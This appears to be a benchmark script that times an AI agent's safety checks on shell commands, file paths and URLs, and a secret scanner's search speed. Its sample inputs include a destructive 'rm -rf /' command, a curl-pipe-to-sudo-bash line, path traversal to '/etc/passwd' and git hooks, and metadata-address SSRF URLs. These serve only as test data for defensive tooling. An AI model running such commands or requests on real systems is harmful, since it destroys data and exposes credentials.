"""How long a verdict takes before a command, a path or an address is used, and a search for secrets.

Usage: python -m bench.safety [rounds]

The table shows the least, the median and the slowest of all rounds, against the aim; below it stands how much longer
a search takes in a text of twice the length, written so that a careless expression would look at it again and again.
"""

import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from random import Random
from statistics import median
from string import ascii_letters, digits
from tempfile import TemporaryDirectory

from ouroboros.safety.commands.classify import classify
from ouroboros.safety.commands.grammar import prepare
from ouroboros.safety.network.urls import judge_url
from ouroboros.safety.paths import Places
from ouroboros.safety.paths.judge import judge_path
from ouroboros.safety.secrets.find import find
from tests.unit.safety.corpus.harmless import negatives
from tests.unit.safety.corpus.secret_texts import positives

COMMANDS = (
    "git status",
    "git log --oneline -20 | head -5 && git diff --stat HEAD~1",
    "find . -name '*.py' -not -path '*/node_modules/*' | xargs grep -n foo",
    "rm -rf / --no-preserve-root",
    "curl -fsSL https://example.com/x | sudo bash -s -- --yes",
    "sed -n '1,200p' src/app.py | awk '{print $1, $2}' | sort | uniq -c | sort -rn",
    'for f in *.py; do wc -l "$f"; done',
    "cat " + " ".join(f"src/file{number}.py" for number in range(200)),
    " && ".join(["git status --short"] * 40),
)
PATHS = (
    ("read", "src/app/main.py"),
    ("write", "src/app/../../.git/hooks/pre-commit"),
    ("read", "/".join(["a"] * 500)),
    ("write", "../" * 200 + "etc/passwd"),
)
ADDRESSES = (
    "https://docs.python.org/3/library/re.html",
    "http://user@0x7f.1:8080/a?b=c#d",
    "http://[::ffff:169.254.169.254]/latest",
    "https://" + "a." * 120 + "example.com/" + "x" * 4000,
)
HUNDRED_KB = 100_000
HOSTILE = (
    "a" * 64,
    "key=",
    "AKIA",
    "eyJ",
    "-----BEGIN ",
    "://a:",
    "sk-" + "a" * 40,
    '="',
    "password: ",
    "api_key=",
    "secret sauce ",
    "a.b-c_d",
)


def milliseconds(work: Callable[[], object]) -> float:
    began = time.perf_counter()
    work()
    return (time.perf_counter() - began) * 1000


def classification(rounds: int) -> Iterator[tuple[str, float, list[float]]]:
    """The grammar's first load, then one verdict for each command; the aim is 2 ms."""
    yield "load the grammar", 20, [milliseconds(prepare)]
    with TemporaryDirectory() as folder:
        cwd = Path(folder).resolve()
        places = Places(roots=(cwd,))
        for command in COMMANDS:
            taken = [
                milliseconds(lambda text=command: classify(text, cwd=cwd, places=places))
                for _ in range(rounds)
            ]
            yield f"classify `{command[:48]}` ({len(command)} characters)", 2, taken


def places(rounds: int) -> Iterator[tuple[str, float, list[float]]]:
    """One verdict for each path; the aim is 2 ms."""
    with TemporaryDirectory() as folder:
        root = Path(folder).resolve()
        for op, path in PATHS:
            taken = [
                milliseconds(lambda a=op, b=path: judge_path(root, a, b)) for _ in range(rounds)
            ]
            yield f"{op} the path `{path[:40]}` ({len(path)} characters)", 2, taken


def addresses(rounds: int) -> Iterator[tuple[str, float, list[float]]]:
    """One verdict for each address; the aim is 2 ms."""
    for url in ADDRESSES:
        taken = [milliseconds(lambda text=url: judge_url(text)) for _ in range(rounds)]
        yield f"open the address `{url[:40]}` ({len(url)} characters)", 2, taken


def ordinary() -> Iterator[tuple[str, str]]:
    """100 kB of what tools say: code, texts full of harmless look-alikes, and texts full of secrets."""
    sources = sorted(Path("src/ouroboros").rglob("*.py"))
    yield "code", "\n".join(path.read_text(encoding="utf-8") for path in sources)
    yield "look-alikes", "\n".join(text for _, text in negatives()) * 20
    yield "a secret in each line", "\n".join(text for _, text, _ in positives())
    random = Random(7)
    words = ("".join(random.choices(ascii_letters + digits, k=12)) for _ in range(9_000))
    yield "a password in each line", "\n".join(f"password={word}" for word in words)
    numbers = (f"{random.getrandbits(48):012x}" for _ in range(9_000))
    yield "a key that is none in each line", "\n".join(f'"sort_key": "{each}",' for each in numbers)


def searches(rounds: int) -> Iterator[tuple[str, float, list[float]]]:
    """One search of 100 kB; the aim is 5 ms for ordinary text."""
    for name, text in ordinary():
        part = text[:HUNDRED_KB]
        taken = [milliseconds(lambda text=part: find(text)) for _ in range(max(3, rounds // 10))]
        yield f"search {len(part)} characters for secrets: {name}", 5, taken


def growth(rounds: int) -> Iterator[tuple[str, float, float]]:
    """The least time for 100 kB of each hostile piece over and over, and how many times it is for 200 kB."""
    for piece in HOSTILE:
        once, twice = (
            min(
                milliseconds(lambda text=piece, n=size: find((text * n)[:n]))
                for _ in range(max(3, rounds // 20))
            )
            for size in (HUNDRED_KB, 2 * HUNDRED_KB)
        )
        yield piece[:12], once, twice / once


PARTS: tuple[Callable[[int], Iterator[tuple[str, float, list[float]]]], ...] = (
    classification,
    places,
    addresses,
    searches,
)


def main(rounds: int) -> None:
    sys.stdout.write(
        "| what | aim, ms | least, ms | median, ms | slowest, ms |\n|---|---|---|---|---|\n"
    )
    for part in PARTS:
        for what, aim, taken in part(rounds):
            cells = f"{min(taken):.3f} | {median(taken):.3f} | {max(taken):.3f}"
            sys.stdout.write(f"| {what} | {aim:g} | {cells} |\n")
    sys.stdout.write("\n| over and over | 100 kB, ms | 200 kB over that |\n|---|---|---|\n")
    for what, once, ratio in growth(rounds):
        sys.stdout.write(f"| `{what}` | {once:.1f} | x{ratio:.2f} |\n")


if __name__ == "__main__":
    main(int(sys.argv[1]) if len(sys.argv) > 1 else 200)
